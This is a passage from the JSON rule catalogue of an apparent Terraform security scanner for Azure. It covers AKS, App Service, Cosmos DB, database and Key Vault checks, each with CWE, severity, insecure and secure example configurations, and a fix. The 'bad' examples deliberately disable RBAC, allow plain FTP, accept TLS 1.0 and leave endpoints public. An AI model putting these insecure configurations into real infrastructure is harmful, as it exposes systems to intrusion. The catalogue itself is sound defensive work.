    "description": "The Azure Policy add-on (Gatekeeper) enforces pod security and other admission policies across the cluster, such as blocking privileged containers or images from untrusted registries. Without it nothing stops such workloads at admission.",
    "help": {
      "bad": "resource \"azurerm_kubernetes_cluster\" \"main\" {\n  name                = \"acme-aks\"\n  location            = \"westeurope\"\n  resource_group_name = \"rg\"\n  dns_prefix          = \"acme\"\n\n  default_node_pool {\n    name       = \"default\"\n    node_count = 3\n    vm_size    = \"Standard_D4s_v5\"\n  }\n\n  identity {\n    type = \"SystemAssigned\"\n  }\n}\n",
      "good": "resource \"azurerm_kubernetes_cluster\" \"main\" {\n  name                = \"acme-aks\"\n  location            = \"westeurope\"\n  resource_group_name = \"rg\"\n  dns_prefix          = \"acme\"\n\n  default_node_pool {\n    name       = \"default\"\n    node_count = 3\n    vm_size    = \"Standard_D4s_v5\"\n  }\n\n  identity {\n    type = \"SystemAssigned\"\n  }\n\n  azure_policy_enabled = true\n}\n",
      "fix": "Set `azure_policy_enabled = true` (`addon_profile { azure_policy { enabled = true } }` in azurerm 2.x) and assign the Kubernetes policy initiatives."
    },
    "references": [
      "https://learn.microsoft.com/azure/governance/policy/concepts/policy-for-kubernetes",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/kubernetes_cluster#azure_policy_enabled"
    ],
    "checkov": [
      "CKV_AZURE_116"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-aks-local-accounts",
    "title": "AKS cluster keeps local (non-Entra ID) admin accounts",
    "severity": "medium",
    "cwe": [
      "CWE-287"
    ],
    "description": "Unless `local_account_disabled = true`, anyone with the \"List cluster admin credential\" permission can download a static cluster-admin kubeconfig that bypasses Entra ID: no MFA, no conditional access, and access that survives removing the person from Entra ID.",
    "help": {
      "bad": "resource \"azurerm_kubernetes_cluster\" \"main\" {\n  name                = \"acme-aks\"\n  location            = \"westeurope\"\n  resource_group_name = \"rg\"\n  dns_prefix          = \"acme\"\n\n  default_node_pool {\n    name       = \"default\"\n    node_count = 3\n    vm_size    = \"Standard_D4s_v5\"\n  }\n\n  identity {\n    type = \"SystemAssigned\"\n  }\n}\n",
      "good": "resource \"azurerm_kubernetes_cluster\" \"main\" {\n  name                = \"acme-aks\"\n  location            = \"westeurope\"\n  resource_group_name = \"rg\"\n  dns_prefix          = \"acme\"\n\n  default_node_pool {\n    name       = \"default\"\n    node_count = 3\n    vm_size    = \"Standard_D4s_v5\"\n  }\n\n  identity {\n    type = \"SystemAssigned\"\n  }\n\n  local_account_disabled = true\n\n  azure_active_directory_role_based_access_control {\n    azure_rbac_enabled = true\n  }\n}\n",
      "fix": "Set `local_account_disabled = true` with Entra ID integration (`azure_active_directory_role_based_access_control`)."
    },
    "references": [
      "https://learn.microsoft.com/azure/aks/manage-local-accounts-managed-azure-ad",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/kubernetes_cluster#local_account_disabled"
    ],
    "checkov": [
      "CKV_AZURE_141"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A07:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-aks-network-policy",
    "title": "AKS cluster has no network policy engine",
    "severity": "medium",
    "cwe": [
      "CWE-284"
    ],
    "description": "Without `network_profile { network_policy = ... }` (azure, calico or cilium), Kubernetes NetworkPolicy objects are ignored and every pod can reach every other pod, so one compromised workload can probe databases and internal services across namespaces. The engine can only be chosen at cluster creation on older versions.",
    "help": {
      "bad": "resource \"azurerm_kubernetes_cluster\" \"main\" {\n  name                = \"acme-aks\"\n  location            = \"westeurope\"\n  resource_group_name = \"rg\"\n  dns_prefix          = \"acme\"\n\n  default_node_pool {\n    name       = \"default\"\n    node_count = 3\n    vm_size    = \"Standard_D4s_v5\"\n  }\n\n  identity {\n    type = \"SystemAssigned\"\n  }\n\n  network_profile {\n    network_plugin = \"azure\"\n  }\n}\n",
      "good": "resource \"azurerm_kubernetes_cluster\" \"main\" {\n  name                = \"acme-aks\"\n  location            = \"westeurope\"\n  resource_group_name = \"rg\"\n  dns_prefix          = \"acme\"\n\n  default_node_pool {\n    name       = \"default\"\n    node_count = 3\n    vm_size    = \"Standard_D4s_v5\"\n  }\n\n  identity {\n    type = \"SystemAssigned\"\n  }\n\n  network_profile {\n    network_plugin = \"azure\"\n    network_policy = \"calico\"\n  }\n}\n",
      "fix": "Set `network_profile { network_policy = \"azure\" }` (or `\"calico\"` / `\"cilium\"`) and define NetworkPolicies for each namespace."
    },
    "references": [
      "https://learn.microsoft.com/azure/aks/use-network-policies",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/kubernetes_cluster#network_policy"
    ],
    "checkov": [
      "CKV_AZURE_7"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-aks-private-cluster",
    "title": "AKS cluster API server has a public endpoint",
    "severity": "low",
    "cwe": [
      "CWE-284"
    ],
    "description": "Unless `private_cluster_enabled = true`, the Kubernetes API server has a public IP address and is reachable from the internet (subject to authorized IP ranges, see iac/azure-aks-api-server-authorized-ips). A private cluster exposes the API server only inside the virtual network.",
    "help": {
      "bad": "resource \"azurerm_kubernetes_cluster\" \"main\" {\n  name                = \"acme-aks\"\n  location            = \"westeurope\"\n  resource_group_name = \"rg\"\n  dns_prefix          = \"acme\"\n\n  default_node_pool {\n    name       = \"default\"\n    node_count = 3\n    vm_size    = \"Standard_D4s_v5\"\n  }\n\n  identity {\n    type = \"SystemAssigned\"\n  }\n}\n",
      "good": "resource \"azurerm_kubernetes_cluster\" \"main\" {\n  name                = \"acme-aks\"\n  location            = \"westeurope\"\n  resource_group_name = \"rg\"\n  dns_prefix          = \"acme\"\n\n  default_node_pool {\n    name       = \"default\"\n    node_count = 3\n    vm_size    = \"Standard_D4s_v5\"\n  }\n\n  identity {\n    type = \"SystemAssigned\"\n  }\n\n  private_cluster_enabled = true\n}\n",
      "fix": "Set `private_cluster_enabled = true` (at creation) and administer the cluster from the virtual network, a jump host or `az aks command invoke`."
    },
    "references": [
      "https://learn.microsoft.com/azure/aks/private-clusters",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/kubernetes_cluster#private_cluster_enabled"
    ],
    "checkov": [
      "CKV_AZURE_115"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-aks-rbac-disabled",
    "title": "AKS cluster has Kubernetes RBAC disabled",
    "severity": "high",
    "cwe": [
      "CWE-285"
    ],
    "description": "With `role_based_access_control_enabled = false` (`role_based_access_control { enabled = false }` in azurerm 2.x), the API server does not authorize requests by role: every authenticated user and service account can do anything in the cluster. RBAC cannot be turned on later without recreating the cluster.",
    "help": {
      "bad": "resource \"azurerm_kubernetes_cluster\" \"main\" {\n  name                = \"acme-aks\"\n  location            = \"westeurope\"\n  resource_group_name = \"rg\"\n  dns_prefix          = \"acme\"\n\n  default_node_pool {\n    name       = \"default\"\n    node_count = 3\n    vm_size    = \"Standard_D4s_v5\"\n  }\n\n  identity {\n    type = \"SystemAssigned\"\n  }\n\n  role_based_access_control_enabled = false\n}\n",
      "good": "resource \"azurerm_kubernetes_cluster\" \"main\" {\n  name                = \"acme-aks\"\n  location            = \"westeurope\"\n  resource_group_name = \"rg\"\n  dns_prefix          = \"acme\"\n\n  default_node_pool {\n    name       = \"default\"\n    node_count = 3\n    vm_size    = \"Standard_D4s_v5\"\n  }\n\n  identity {\n    type = \"SystemAssigned\"\n  }\n\n  role_based_access_control_enabled = true\n}\n",
      "fix": "Set `role_based_access_control_enabled = true` (the default) and integrate Entra ID with `azure_active_directory_role_based_access_control`."
    },
    "references": [
      "https://learn.microsoft.com/azure/aks/concepts-identity#kubernetes-rbac",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/kubernetes_cluster#role_based_access_control_enabled"
    ],
    "checkov": [
      "CKV_AZURE_5"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A01:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-app-service-auth",
    "title": "App Service or Function App does not use built-in authentication",
    "severity": "low",
    "cwe": [
      "CWE-306"
    ],
    "description": "App Service authentication (\"Easy Auth\", `auth_settings` / `auth_settings_v2`) rejects unauthenticated requests before they reach the code. Without it every request reaches the app, and protection depends on each endpoint checking identity itself.",
    "help": {
      "bad": "resource \"azurerm_linux_web_app\" \"admin\" {\n  name                = \"acme-admin\"\n  resource_group_name = \"rg\"\n  location            = \"westeurope\"\n  service_plan_id     = \"/subscriptions/000/resourceGroups/rg/providers/Microsoft.Web/serverFarms/plan\"\n  https_only          = true\n\n  site_config {}\n}\n",
      "good": "resource \"azurerm_linux_web_app\" \"admin\" {\n  name                = \"acme-admin\"\n  resource_group_name = \"rg\"\n  location            = \"westeurope\"\n  service_plan_id     = \"/subscriptions/000/resourceGroups/rg/providers/Microsoft.Web/serverFarms/plan\"\n  https_only          = true\n\n  site_config {}\n\n  auth_settings_v2 {\n    auth_enabled           = true\n    require_authentication = true\n\n    active_directory_v2 {\n      client_id            = \"00000000-0000-0000-0000-000000000000\"\n      tenant_auth_endpoint = \"https://login.microsoftonline.com/00000000-0000-0000-0000-000000000000/v2.0\"\n    }\n\n    login {}\n  }\n}\n",
      "fix": "Add `auth_settings_v2 { auth_enabled = true ... }` (or `auth_settings { enabled = true }` on azurerm 2.x resources) with an identity provider."
    },
    "references": [
      "https://learn.microsoft.com/azure/app-service/overview-authentication-authorization",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/linux_web_app#auth_settings_v2"
    ],
    "checkov": [
      "CKV_AZURE_13",
      "CKV_AZURE_56"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A07:2021"
    ],
    "precision": "medium"
  },
  {
    "id": "iac/azure-app-service-client-certs",
    "title": "App Service does not require client certificates",
    "severity": "low",
    "cwe": [
      "CWE-295"
    ],
    "description": "Requiring incoming client certificates (mutual TLS) means only clients holding a trusted certificate can reach the app at all, which suits internal and business-to-business APIs. Without it, authentication rests entirely on the application.",
    "help": {
      "bad": "resource \"azurerm_linux_web_app\" \"api\" {\n  name                = \"acme-api\"\n  resource_group_name = \"rg\"\n  location            = \"westeurope\"\n  service_plan_id     = \"/subscriptions/000/resourceGroups/rg/providers/Microsoft.Web/serverFarms/plan\"\n  https_only          = true\n\n  site_config {}\n}\n",
      "good": "resource \"azurerm_linux_web_app\" \"api\" {\n  name                       = \"acme-api\"\n  resource_group_name        = \"rg\"\n  location                   = \"westeurope\"\n  service_plan_id            = \"/subscriptions/000/resourceGroups/rg/providers/Microsoft.Web/serverFarms/plan\"\n  https_only                 = true\n  client_certificate_enabled = true\n  client_certificate_mode    = \"Required\"\n\n  site_config {}\n}\n",
      "fix": "Set `client_certificate_enabled = true` (`client_cert_enabled` on `azurerm_app_service`) with `client_certificate_mode = \"Required\"`, and validate the certificate in the app."
    },
    "references": [
      "https://learn.microsoft.com/azure/app-service/app-service-web-configure-tls-mutual-auth",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/linux_web_app#client_certificate_enabled"
    ],
    "checkov": [
      "CKV_AZURE_17"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A07:2021"
    ],
    "precision": "medium"
  },
  {
    "id": "iac/azure-app-service-ftps",
    "title": "App Service or Function App allows unencrypted FTP deployment",
    "severity": "medium",
    "cwe": [
      "CWE-319"
    ],
    "description": "`ftps_state = \"AllAllowed\"` accepts plain FTP for deployments: the deployment credentials and the code travel unencrypted. It is the default of the azurerm 2.x resources (`azurerm_app_service`, `azurerm_function_app`), which are reported when `site_config` does not set it.",
    "help": {
      "bad": "resource \"azurerm_windows_web_app\" \"web\" {\n  name                = \"acme-web\"\n  resource_group_name = \"rg\"\n  location            = \"westeurope\"\n  service_plan_id     = \"/subscriptions/000/resourceGroups/rg/providers/Microsoft.Web/serverFarms/plan\"\n  https_only          = true\n\n  site_config {\n    ftps_state = \"AllAllowed\"\n  }\n}\n",
      "good": "resource \"azurerm_windows_web_app\" \"web\" {\n  name                = \"acme-web\"\n  resource_group_name = \"rg\"\n  location            = \"westeurope\"\n  service_plan_id     = \"/subscriptions/000/resourceGroups/rg/providers/Microsoft.Web/serverFarms/plan\"\n  https_only          = true\n\n  site_config {\n    ftps_state = \"Disabled\"\n  }\n}\n",
      "fix": "Set `site_config { ftps_state = \"Disabled\" }` (or `\"FtpsOnly\"` if FTP deployment is still needed)."
    },
    "references": [
      "https://learn.microsoft.com/azure/app-service/deploy-ftp#enforce-ftps",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/windows_web_app#ftps_state"
    ],
    "checkov": [
      "CKV_AZURE_78"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A02:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-app-service-https-only",
    "title": "App Service or Function App accepts plain HTTP",
    "severity": "medium",
    "cwe": [
      "CWE-319"
    ],
    "description": "Unless `https_only = true`, the app answers plain HTTP requests instead of redirecting them to HTTPS, so session cookies, tokens and form data can be read or changed on the network. The provider default is `false`.",
    "help": {
      "bad": "resource \"azurerm_linux_web_app\" \"web\" {\n  name                = \"acme-web\"\n  resource_group_name = \"rg\"\n  location            = \"westeurope\"\n  service_plan_id     = \"/subscriptions/000/resourceGroups/rg/providers/Microsoft.Web/serverFarms/plan\"\n\n  site_config {}\n}\n",
      "good": "resource \"azurerm_linux_web_app\" \"web\" {\n  name                = \"acme-web\"\n  resource_group_name = \"rg\"\n  location            = \"westeurope\"\n  service_plan_id     = \"/subscriptions/000/resourceGroups/rg/providers/Microsoft.Web/serverFarms/plan\"\n  https_only          = true\n\n  site_config {}\n}\n",
      "fix": "Set `https_only = true`."
    },
    "references": [
      "https://learn.microsoft.com/azure/app-service/configure-ssl-bindings#enforce-https",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/linux_web_app#https_only"
    ],
    "checkov": [
      "CKV_AZURE_14",
      "CKV_AZURE_70",
      "CKV_AZURE_153"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A02:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-app-service-managed-identity",
    "title": "App Service or Function App has no managed identity",
    "severity": "low",
    "cwe": [
      "CWE-798"
    ],
    "description": "Without an `identity` block the app cannot authenticate to Key Vault, Storage, SQL and other services with Entra ID, so it ends up holding connection strings, keys and passwords in its settings instead.",
    "help": {
      "bad": "resource \"azurerm_linux_function_app\" \"jobs\" {\n  name                       = \"acme-jobs\"\n  resource_group_name        = \"rg\"\n  location                   = \"westeurope\"\n  service_plan_id            = \"/subscriptions/000/resourceGroups/rg/providers/Microsoft.Web/serverFarms/plan\"\n  storage_account_name       = \"acmejobs\"\n  storage_account_access_key = var.storage_key\n  https_only                 = true\n\n  site_config {}\n}\n",
      "good": "resource \"azurerm_linux_function_app\" \"jobs\" {\n  name                          = \"acme-jobs\"\n  resource_group_name           = \"rg\"\n  location                      = \"westeurope\"\n  service_plan_id               = \"/subscriptions/000/resourceGroups/rg/providers/Microsoft.Web/serverFarms/plan\"\n  storage_account_name          = \"acmejobs\"\n  storage_uses_managed_identity = true\n  https_only                    = true\n\n  identity {\n    type = \"SystemAssigned\"\n  }\n\n  site_config {}\n}\n",
      "fix": "Add `identity { type = \"SystemAssigned\" }` (or a user-assigned identity) and grant it the roles the app needs."
    },
    "references": [
      "https://learn.microsoft.com/azure/app-service/overview-managed-identity",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/linux_web_app#identity"
    ],
    "checkov": [
      "CKV_AZURE_16",
      "CKV_AZURE_71"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A07:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-app-service-min-tls",
    "title": "App Service or Function App accepts TLS versions older than 1.2",
    "severity": "medium",
    "cwe": [
      "CWE-326",
      "CWE-327"
    ],
    "description": "A minimum TLS version of 1.0 or 1.1 for the site or its SCM (Kudu) endpoint lets clients negotiate deprecated protocol versions with known weaknesses. The default is 1.2.",
    "help": {
      "bad": "resource \"azurerm_linux_web_app\" \"web\" {\n  name                = \"acme-web\"\n  resource_group_name = \"rg\"\n  location            = \"westeurope\"\n  service_plan_id     = \"/subscriptions/000/resourceGroups/rg/providers/Microsoft.Web/serverFarms/plan\"\n  https_only          = true\n\n  site_config {\n    minimum_tls_version = \"1.0\"\n  }\n}\n",
      "good": "resource \"azurerm_linux_web_app\" \"web\" {\n  name                = \"acme-web\"\n  resource_group_name = \"rg\"\n  location            = \"westeurope\"\n  service_plan_id     = \"/subscriptions/000/resourceGroups/rg/providers/Microsoft.Web/serverFarms/plan\"\n  https_only          = true\n\n  site_config {\n    minimum_tls_version = \"1.2\"\n  }\n}\n",
      "fix": "Set `minimum_tls_version` (azurerm 3.x/4.x; `min_tls_version` in 2.x) and `scm_minimum_tls_version` to \"1.2\" or later."
    },
    "references": [
      "https://learn.microsoft.com/azure/app-service/overview-tls",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/linux_web_app#minimum_tls_version"
    ],
    "checkov": [
      "CKV_AZURE_15",
      "CKV_AZURE_145",
      "CKV_AZURE_154"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A02:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-app-service-remote-debugging",
    "title": "App Service or Function App has remote debugging enabled",
    "severity": "medium",
    "cwe": [
      "CWE-489"
    ],
    "description": "Remote debugging opens extra inbound ports and lets a debugger attach to the production process, read its memory and change its execution. It is meant for short debugging sessions and should not be left on in configuration.",
    "help": {
      "bad": "resource \"azurerm_windows_web_app\" \"web\" {\n  name                = \"acme-web\"\n  resource_group_name = \"rg\"\n  location            = \"westeurope\"\n  service_plan_id     = \"/subscriptions/000/resourceGroups/rg/providers/Microsoft.Web/serverFarms/plan\"\n  https_only          = true\n\n  site_config {\n    remote_debugging_enabled = true\n    remote_debugging_version = \"VS2022\"\n  }\n}\n",
      "good": "resource \"azurerm_windows_web_app\" \"web\" {\n  name                = \"acme-web\"\n  resource_group_name = \"rg\"\n  location            = \"westeurope\"\n  service_plan_id     = \"/subscriptions/000/resourceGroups/rg/providers/Microsoft.Web/serverFarms/plan\"\n  https_only          = true\n\n  site_config {\n    remote_debugging_enabled = false\n  }\n}\n",
      "fix": "Remove `remote_debugging_enabled = true` (the default is `false`)."
    },
    "references": [
      "https://learn.microsoft.com/visualstudio/debugger/remote-debugging-azure-app-service",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/windows_web_app#remote_debugging_enabled"
    ],
    "checkov": [
      "CKV_AZURE_72",
      "CKV_AZURE_155"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-cosmosdb-key-metadata-write",
    "title": "Cosmos DB account keys can change account metadata",
    "severity": "low",
    "cwe": [
      "CWE-269"
    ],
    "description": "Unless `access_key_metadata_writes_enabled = false`, anyone holding an account key, typically every application, can also create or delete databases and containers and change throughput through the data plane, bypassing Azure RBAC on the management plane.",
    "help": {
      "bad": "resource \"azurerm_cosmosdb_account\" \"db\" {\n  name                = \"acme-cosmos\"\n  location            = \"westeurope\"\n  resource_group_name = \"rg\"\n  offer_type          = \"Standard\"\n\n  consistency_policy {\n    consistency_level = \"Session\"\n  }\n\n  geo_location {\n    location          = \"westeurope\"\n    failover_priority = 0\n  }\n}\n",
      "good": "resource \"azurerm_cosmosdb_account\" \"db\" {\n  name                = \"acme-cosmos\"\n  location            = \"westeurope\"\n  resource_group_name = \"rg\"\n  offer_type          = \"Standard\"\n  access_key_metadata_writes_enabled = false\n\n  consistency_policy {\n    consistency_level = \"Session\"\n  }\n\n  geo_location {\n    location          = \"westeurope\"\n    failover_priority = 0\n  }\n}\n",
      "fix": "Set `access_key_metadata_writes_enabled = false` and manage databases and containers through Terraform / Azure Resource Manager."
    },
    "references": [
      "https://learn.microsoft.com/azure/cosmos-db/role-based-access-control#prevent-sdk-changes",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/cosmosdb_account#access_key_metadata_writes_enabled"
    ],
    "checkov": [
      "CKV_AZURE_132"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A01:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-cosmosdb-public-network-access",
    "title": "Cosmos DB account is reachable from any network",
    "severity": "medium",
    "cwe": [
      "CWE-284"
    ],
    "description": "A Cosmos DB account with public network access on (the default), no IP firewall (`ip_range_filter`) and no virtual network filter accepts requests from the whole internet, so a leaked account key is usable from anywhere.",
    "help": {
      "bad": "resource \"azurerm_cosmosdb_account\" \"db\" {\n  name                = \"acme-cosmos\"\n  location            = \"westeurope\"\n  resource_group_name = \"rg\"\n  offer_type          = \"Standard\"\n\n  consistency_policy {\n    consistency_level = \"Session\"\n  }\n\n  geo_location {\n    location          = \"westeurope\"\n    failover_priority = 0\n  }\n}\n",
      "good": "resource \"azurerm_cosmosdb_account\" \"db\" {\n  name                = \"acme-cosmos\"\n  location            = \"westeurope\"\n  resource_group_name = \"rg\"\n  offer_type          = \"Standard\"\n  public_network_access_enabled = false\n\n  consistency_policy {\n    consistency_level = \"Session\"\n  }\n\n  geo_location {\n    location          = \"westeurope\"\n    failover_priority = 0\n  }\n}\n",
      "fix": "Set `public_network_access_enabled = false` and use private endpoints, or restrict access with `ip_range_filter` and `is_virtual_network_filter_enabled` with `virtual_network_rule` blocks."
    },
    "references": [
      "https://learn.microsoft.com/azure/cosmos-db/how-to-configure-firewall",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/cosmosdb_account#public_network_access_enabled"
    ],
    "checkov": [
      "CKV_AZURE_99",
      "CKV_AZURE_101"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-database-geo-backup",
    "title": "PostgreSQL, MySQL or MariaDB server backups are not geo-redundant",
    "severity": "low",
    "cwe": [
      "CWE-693"
    ],
    "description": "Without `geo_redundant_backup_enabled = true`, backups stay in the server's region: a regional outage or disaster leaves no copy to restore from. Replicas created from another server (`create_mode` other than Default) are not reported.",
    "help": {
      "bad": "resource \"azurerm_postgresql_flexible_server\" \"main\" {\n  name                = \"acme-pg\"\n  resource_group_name = \"rg\"\n  location            = \"westeurope\"\n  version             = \"16\"\n  sku_name            = \"GP_Standard_D2s_v3\"\n}\n",
      "good": "resource \"azurerm_postgresql_flexible_server\" \"main\" {\n  name                         = \"acme-pg\"\n  resource_group_name          = \"rg\"\n  location                     = \"westeurope\"\n  version                      = \"16\"\n  sku_name                     = \"GP_Standard_D2s_v3\"\n  geo_redundant_backup_enabled = true\n}\n",
      "fix": "Set `geo_redundant_backup_enabled = true` (it can only be chosen when the server is created)."
    },
    "references": [
      "https://learn.microsoft.com/azure/postgresql/flexible-server/concepts-backup-restore",
      "https://learn.microsoft.com/azure/mysql/flexible-server/concepts-backup-restore"
    ],
    "checkov": [
      "CKV_AZURE_94",
      "CKV_AZURE_102",
      "CKV_AZURE_129",
      "CKV_AZURE_136"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A05:2021",
      "resilience"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-database-min-tls",
    "title": "PostgreSQL, MySQL or MariaDB server accepts TLS versions older than 1.2",
    "severity": "medium",
    "cwe": [
      "CWE-326",
      "CWE-327"
    ],
    "description": "`ssl_minimal_tls_version_enforced` set to `TLS1_0`, `TLS1_1` or `TLSEnforcementDisabled` (single servers), or a MySQL flexible server `tls_version` parameter allowing TLSv1/TLSv1.1, lets clients connect with deprecated TLS versions that have known weaknesses.",
    "help": {
      "bad": "resource \"azurerm_postgresql_server\" \"main\" {\n  name                             = \"acme-pg\"\n  location                         = \"westeurope\"\n  resource_group_name              = \"rg\"\n  sku_name                         = \"GP_Gen5_2\"\n  version                          = \"11\"\n  ssl_enforcement_enabled          = true\n  ssl_minimal_tls_version_enforced = \"TLS1_0\"\n}\n",
      "good": "resource \"azurerm_postgresql_server\" \"main\" {\n  name                             = \"acme-pg\"\n  location                         = \"westeurope\"\n  resource_group_name              = \"rg\"\n  sku_name                         = \"GP_Gen5_2\"\n  version                          = \"11\"\n  ssl_enforcement_enabled          = true\n  ssl_minimal_tls_version_enforced = \"TLS1_2\"\n}\n",
      "fix": "Set `ssl_minimal_tls_version_enforced = \"TLS1_2\"` (single servers) or `tls_version = \"TLSv1.2\"` (MySQL flexible servers)."
    },
    "references": [
      "https://learn.microsoft.com/azure/postgresql/single-server/how-to-tls-configurations",
      "https://learn.microsoft.com/azure/mysql/flexible-server/how-to-connect-tls-ssl"
    ],
    "checkov": [
      "CKV_AZURE_54",
      "CKV_AZURE_147",
      "CKV2_AZURE_37"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A02:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-database-public-network-access",
    "title": "PostgreSQL, MySQL or MariaDB server is reachable over its public endpoint",
    "severity": "medium",
    "cwe": [
      "CWE-284"
    ],
    "description": "With public network access on, the server's endpoint accepts connections from the internet subject only to its firewall rules, so a broad rule or a leaked password is enough to reach the data. Single servers that leave the setting at its default (on) are reported when the configuration also adds firewall rules; flexible servers when the setting is explicitly on.",
    "help": {
      "bad": "resource \"azurerm_mysql_server\" \"main\" {\n  name                          = \"acme-mysql\"\n  location                      = \"westeurope\"\n  resource_group_name           = \"rg\"\n  sku_name                      = \"GP_Gen5_2\"\n  version                       = \"8.0\"\n  ssl_enforcement_enabled       = true\n  public_network_access_enabled = true\n}\n",
      "good": "resource \"azurerm_mysql_server\" \"main\" {\n  name                          = \"acme-mysql\"\n  location                      = \"westeurope\"\n  resource_group_name           = \"rg\"\n  sku_name                      = \"GP_Gen5_2\"\n  version                       = \"8.0\"\n  ssl_enforcement_enabled       = true\n  public_network_access_enabled = false\n}\n",
      "fix": "Set `public_network_access_enabled = false` and connect through a private endpoint (single servers) or VNet integration (flexible servers)."
    },
    "references": [
      "https://learn.microsoft.com/azure/postgresql/flexible-server/concepts-networking",
      "https://learn.microsoft.com/azure/mysql/flexible-server/concepts-networking"
    ],
    "checkov": [
      "CKV_AZURE_48",
      "CKV_AZURE_53",
      "CKV_AZURE_68"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-database-ssl-disabled",
    "title": "PostgreSQL, MySQL or MariaDB server accepts unencrypted connections",
    "severity": "high",
    "cwe": [
      "CWE-319"
    ],
    "description": "With SSL enforcement off (`ssl_enforcement_enabled = false` on single servers, or the `require_secure_transport` server parameter set to `OFF` on flexible servers), clients may connect without TLS, and credentials and query results cross the network in clear text.",
    "help": {
      "bad": "resource \"azurerm_postgresql_server\" \"main\" {\n  name                         = \"acme-pg\"\n  location                     = \"westeurope\"\n  resource_group_name          = \"rg\"\n  sku_name                     = \"GP_Gen5_2\"\n  version                      = \"11\"\n  ssl_enforcement_enabled      = false\n  administrator_login          = \"pgadmin\"\n  administrator_login_password = var.pg_password\n}\n",
      "good": "resource \"azurerm_postgresql_server\" \"main\" {\n  name                             = \"acme-pg\"\n  location                         = \"westeurope\"\n  resource_group_name              = \"rg\"\n  sku_name                         = \"GP_Gen5_2\"\n  version                          = \"11\"\n  ssl_enforcement_enabled          = true\n  ssl_minimal_tls_version_enforced = \"TLS1_2\"\n  administrator_login              = \"pgadmin\"\n  administrator_login_password     = var.pg_password\n}\n",
      "fix": "Set `ssl_enforcement_enabled = true` (single servers) or keep `require_secure_transport` at `ON` (flexible servers)."
    },
    "references": [
      "https://learn.microsoft.com/azure/postgresql/flexible-server/concepts-networking-ssl-tls",
      "https://learn.microsoft.com/azure/mysql/flexible-server/how-to-connect-tls-ssl",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/postgresql_server#ssl_enforcement_enabled"
    ],
    "checkov": [
      "CKV_AZURE_28",
      "CKV_AZURE_29",
      "CKV_AZURE_47"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A02:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-key-vault-key-expiration",
    "title": "Key Vault key has no expiration date",
    "severity": "low",
    "cwe": [
      "CWE-324"
    ],
    "description": "A key without `expiration_date` can be used indefinitely, so a compromised key version keeps encrypting and signing. An expiry date (with a `rotation_policy`) bounds the lifetime of each key version.",
    "help": {
      "bad": "resource \"azurerm_key_vault_key\" \"data\" {\n  name         = \"data\"\n  key_vault_id = azurerm_key_vault.main.id\n  key_type     = \"RSA\"\n  key_size     = 2048\n  key_opts     = [\"decrypt\", \"encrypt\", \"unwrapKey\", \"wrapKey\"]\n}\n",
